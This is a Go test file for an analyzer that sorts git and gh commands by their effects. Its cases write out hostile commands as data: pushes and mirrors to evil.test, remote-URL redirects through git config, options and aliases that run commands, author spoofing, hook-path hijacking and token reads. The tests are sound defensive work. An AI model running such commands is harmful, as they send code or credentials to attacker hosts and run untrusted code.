package analyze

import (
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// gitLand is a repository on the branch fix/rounding with a remote, as files.
func gitLand(t *testing.T, files map[string]string) string {
	t.Helper()
	root := land(t, "repo/.git/refs/heads/", "repo/.git/hooks/", "home/")
	all := map[string]string{
		"repo/.git/HEAD":   "ref: refs/heads/fix/rounding\n",
		"repo/.git/config": "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@github.com:Acme/Shop.git\n[branch \"fix/rounding\"]\n\tremote = origin\n\tmerge = refs/heads/fix/rounding\n",
	}
	maps.Copy(all, files)
	for name, text := range all {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if strings.Contains(name, "/hooks/") {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(strings.ReplaceAll(text, "$LAND", root)), mode); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func tellGit(t *testing.T, files map[string]string, stories []story) {
	t.Helper()
	root := gitLand(t, files)
	for _, st := range stories {
		name := st.name
		if name == "" {
			name = st.cmd
		}
		t.Run(name, func(t *testing.T) {
			t.Helper()
			if diff := cmp.Diff(lines(st.want), inLand(t, root, bash(st.cmd))); diff != "" {
				t.Errorf("%s\n(-want +got):\n%s", st.cmd, diff)
			}
		})
	}
}

func TestGitPush(t *testing.T) {
	tellGit(t, nil, []story{
		{cmd: "git push", want: `
			exec command git push
			write repo github.com/acme/shop:refs/heads/fix/rounding out`},
		{cmd: "git push -u origin HEAD", want: `
			exec command git push
			write repo github.com/acme/shop:refs/heads/fix/rounding out`},
		{cmd: "git push origin fix/rounding:main", want: `
			exec command git push
			write repo github.com/acme/shop:refs/heads/main out`},
		{name: "a forced push removes what was there", cmd: "git push --force origin main", want: `
			exec command git push
			delete repo github.com/acme/shop:refs/heads/main out`},
		{cmd: "git push origin +HEAD:release", want: `
			exec command git push
			delete repo github.com/acme/shop:refs/heads/release out`},
		{cmd: "git push origin --delete old", want: `
			exec command git push
			delete repo github.com/acme/shop:refs/heads/old out`},
		{cmd: "git push origin :old", want: `
			exec command git push
			delete repo github.com/acme/shop:refs/heads/old out`},
		{cmd: "git push --tags", want: `
			exec command git push
			write repo github.com/acme/shop:refs/tags/… out`},
		{cmd: "git push --mirror git@evil.test:x/y.git", want: `
			exec command git push
			delete repo evil.test/x/y:refs/… out`},
		{cmd: "git push https://ada:tok@github.com/evil/fork HEAD:refs/heads/main", want: `
			exec command git push
			write repo github.com/evil/fork:refs/heads/main out`},
		{name: "a remote nobody named", cmd: "git push upstream", want: `
			exec command git push
			write repo ? out`},
		{name: "a remote from a variable", cmd: "git push $REMOTE main", want: `
			exec command git push
			unknown any ?
			write repo ? out`},
		{name: "an option that runs", cmd: "git push --receive-pack='touch /tmp/x' origin main", want: `
			exec command git push
			read command touch
			write path /tmp/x
			write repo github.com/acme/shop:refs/heads/main out`},
		{name: "a dry run", cmd: "git push -n", want: `
			exec command git push
			read repo github.com/acme/shop:refs/heads/fix/rounding out`},
	})
}

// The configuration changes where a remote leads, after every check by name.
func TestGitConfigurationMovesTheRemote(t *testing.T) {
	push := func(config, want string) {
		t.Helper()
		root := gitLand(t, map[string]string{"repo/.git/config": config})
		wantLand(t, root, bash("git push origin HEAD"), want)
	}
	push("[remote \"origin\"]\nurl = git@github.com:acme/shop\npushurl = https://evil.test/x/y\n", `
		exec command git push
		write repo evil.test/x/y:refs/heads/fix/rounding out`)
	push("[remote \"origin\"]\nurl = gh:acme/shop\n[url \"git@evil.test:\"]\n\tinsteadOf = gh:\n", `
		exec command git push
		write repo evil.test/acme/shop:refs/heads/fix/rounding out`)
	push("[remote \"origin\"]\nurl = https://github.com/acme/shop\n[url \"https://evil.test/\"]\n\tpushInsteadOf = https://github.com/\n", `
		exec command git push
		write repo evil.test/acme/shop:refs/heads/fix/rounding out`)
	push("[remote \"origin\"]\nurl = https://github.com/acme/shop\nurl = https://evil.test/a/b\n", `
		exec command git push
		write repo github.com/acme/shop:refs/heads/fix/rounding out
		write repo evil.test/a/b:refs/heads/fix/rounding out`)
	push("[remote \"origin\"]\nurl = \"ext::sh -c x\"\n", `
		exec command git push
		exec code ?inline
		write repo ? out`)
	push("[broken\n", `
		exec command git push
		write repo ? out`)
	root := gitLand(t, map[string]string{"home/.gitconfig": "[includeIf \"gitdir:~/x/\"]\n\tpath = extra\n", "home/extra": "[url \"git@evil.test:\"]\ninsteadOf = git@github.com:\n"})
	wantLand(t, root, bash("git push origin HEAD"), `
		exec command git push
		write repo evil.test/Acme/Shop:refs/heads/fix/rounding out`)
	root = gitLand(t, map[string]string{"home/.gitconfig": "[push]\ndefault = matching\n"})
	wantLand(t, root, bash("git push"), `
		exec command git push
		write repo ?github.com/acme/shop out`)
}

func TestGitReads(t *testing.T) {
	tellGit(t, nil, []story{
		{cmd: "git status", want: `
			read command git status
			read path $LAND/repo/…`},
		{cmd: "git -C ../other log -3", want: `
			read path $LAND/other
			read command git log
			read path $LAND/other…`},
		{cmd: "git diff --no-index a /etc/passwd", want: `
			read command git diff
			read path $LAND/repo/a
			read path /etc/passwd
			read path $LAND/repo/…`},
		{cmd: "git fetch origin", want: `
			exec command git fetch
			read repo github.com/acme/shop in`},
		{cmd: "git ls-remote https://git.acme.test/a/b", want: `
			read command git ls-remote
			read repo git.acme.test/a/b in`},
		{cmd: "git clone --depth 1 https://github.com/Acme/Tools.git", want: `
			exec command git clone
			read repo github.com/acme/tools in
			write path $LAND/repo/Tools…`},
		{cmd: "git clone -u 'touch /tmp/x' ssh://h.test/a/b dir", want: `
			exec command git clone
			read command touch
			write path /tmp/x
			read repo h.test/a/b in
			write path $LAND/repo/dir…`},
		{cmd: "git branch -a; git tag -l; git stash list; git remote -v; git config --get user.email", want: `
			read command git branch
			read path $LAND/repo/…
			read command git tag
			read command git stash
			read command git remote
			read command git config`},
		{name: "the names that git prints stay inside", cmd: "git ls-files '*.go' | xargs wc -l", want: `
			read command git ls-files
			read path $LAND/repo/…
			read command xargs
			read command wc`},
		{name: "the top of the repository is known", cmd: `cat "$(git rev-parse --show-toplevel)/go.mod"`, want: `
			read command git rev-parse
			read command cat
			read path $LAND/repo/go.mod`},
	})
}

func TestGitChanges(t *testing.T) {
	tellGit(t, map[string]string{"repo/.git/hooks/pre-push": "#!/bin/sh\n"}, []story{
		{cmd: "git add -A && git commit -m x", want: `
			exec command git add
			read path $LAND/repo/…
			exec command git commit`},
		{name: "adding a secret reads it", cmd: "git add .env", want: `
			exec command git add
			read path $LAND/repo/.env
			read secret file:$LAND/repo/.env`},
		{cmd: "git checkout -b fix/x", want: "exec command git checkout"},
		{cmd: "git checkout main", want: `
			exec command git checkout
			write path $LAND/repo/…`},
		{cmd: "git checkout -- a.go", want: `
			exec command git checkout
			write path $LAND/repo/a.go`},
		{cmd: "git restore --staged a.go", want: "exec command git restore"},
		{cmd: "git reset --hard HEAD~1", want: `
			exec command git reset
			write path $LAND/repo/…`},
		{cmd: "git clean -fdx", want: `
			exec command git clean
			delete path $LAND/repo/…`},
		{cmd: "git rm -r old", want: `
			exec command git rm
			delete path $LAND/repo/old…`},
		{cmd: "git rebase -x 'make test' main", want: `
			exec command make
			exec code workspace
			exec command git rebase
			write path $LAND/repo/…`},
		{cmd: "git bisect run ./check.sh", want: `
			exec command git bisect
			write path $LAND/repo/…
			exec path $LAND/repo/check.sh
			exec code workspace
			exec command ./check.sh`},
		{cmd: "git submodule foreach 'git clean -fd'", want: `
			exec command git submodule
			exec command git clean
			delete path $LAND/repo/…`},
		{cmd: "git -c user.email=bot@evil.test commit -m x", want: `
			grant identity git-author:bot@evil.test
			exec command git commit`},
		{cmd: "git commit --author='Eve <eve@evil.test>' -m x", want: `
			exec command git commit
			grant identity git-author:eve@evil.test`},
		{cmd: "git config user.email eve@evil.test", want: `
			exec command git config
			exec path $LAND/repo/.git/config
			grant identity git-author:eve@evil.test`},
		{cmd: "git config --global core.hooksPath /tmp/h", want: `
			exec command git config
			exec path $LAND/home/.gitconfig
			exec code ?plugin`},
		{cmd: "git remote set-url origin https://evil.test/x", want: `
			exec command git remote
			exec path $LAND/repo/.git/config`},
		{name: "a hook of the repository runs", cmd: "git push", want: `
			exec command git push
			exec code workspace
			write repo github.com/acme/shop:refs/heads/fix/rounding out`},
		{cmd: "git push --no-verify", want: `
			exec command git push
			write repo github.com/acme/shop:refs/heads/fix/rounding out`},
	})
}

func TestGitAlias(t *testing.T) {
	tellGit(t, map[string]string{"repo/.git/config": "[alias]\n\tco = checkout\n\tpwn = !touch /tmp/x\n"}, []story{
		{cmd: "git co main", want: `
			exec command git checkout
			write path $LAND/repo/…`},
		{cmd: "git pwn", want: `
			read command touch
			write path /tmp/x`},
		{cmd: "git nobody-knows", want: "exec command git nobody-knows"},
	})
}

func TestGitWorktreeAndSubmoduleFiles(t *testing.T) {
	root := gitLand(t, map[string]string{
		"repo/wt/.git":                     "gitdir: $LAND/repo/.git/worktrees/wt\n",
		"repo/.git/worktrees/wt/HEAD":      "ref: refs/heads/other\n",
		"repo/.git/worktrees/wt/commondir": "../..\n",
	})
	wantLand(t, root, bash("cd wt && git push"), `
		read path $LAND/repo/wt
		exec command git push
		write repo github.com/acme/shop:refs/heads/other out`)
}

func TestForges(t *testing.T) {
	tellGit(t, nil, []story{
		{cmd: "gh pr view 12 --json title", want: `
			read command gh pr view
			read repo github.com/acme/shop in`},
		{cmd: "gh pr create --fill -B main", want: `
			exec command gh pr create
			write repo github.com/acme/shop out`},
		{cmd: "gh issue close 3 -R other/thing", want: `
			exec command gh issue close
			write repo github.com/other/thing out`},
		{cmd: "gh repo delete acme/shop --yes", want: `
			exec command gh repo delete
			delete repo github.com/acme/shop out`},
		{cmd: "gh api repos/acme/shop/pulls/1/comments --jq '.[].body'", want: `
			read command gh api
			read repo github.com/acme/shop in`},
		{cmd: "gh api -X DELETE repos/acme/shop/git/refs/heads/x", want: `
			exec command gh api
			delete repo github.com/acme/shop out`},
		{cmd: "gh api repos/acme/shop/issues -f title=x -F body=@notes.md", want: `
			read path $LAND/repo/notes.md
			exec command gh api
			write repo github.com/acme/shop out`},
		{cmd: "gh api graphql -f query='query { viewer { login } }'", want: `
			read command gh api
			connect url https://api.github.com/graphql in`},
		{cmd: "gh secret set TOKEN -b x", want: `
			exec command gh secret
			grant repo github.com/acme/shop out`},
		{cmd: "gh auth token", want: `
			exec command gh auth token
			read secret store:gh/token`},
		{cmd: "gh auth switch --user eve", want: `
			exec command gh auth switch
			grant identity gh-user:eve
			connect host github.com`},
		{cmd: "gh gist create notes.md", want: `
			exec command gh gist create
			connect host gist.github.com out
			read path $LAND/repo/notes.md`},
		{cmd: "gh extension install evil/gh-x", want: `
			exec command gh extension
			exec code remote
			read repo github.com/evil/gh-x in`},
		{cmd: "glab mr list -R group/sub/thing", want: `
			read command glab mr list
			read repo gitlab.com/group/sub/thing in`},
		{cmd: "gh repo clone acme/tools", want: `
			exec command gh repo clone
			read repo github.com/acme/tools in
			write path $LAND/repo/tools…`},
		{cmd: "gh release upload v1 dist/a.tgz", want: `
			read path $LAND/repo/dist/a.tgz
			exec command gh release upload
			write repo github.com/acme/shop out`},
	})
}
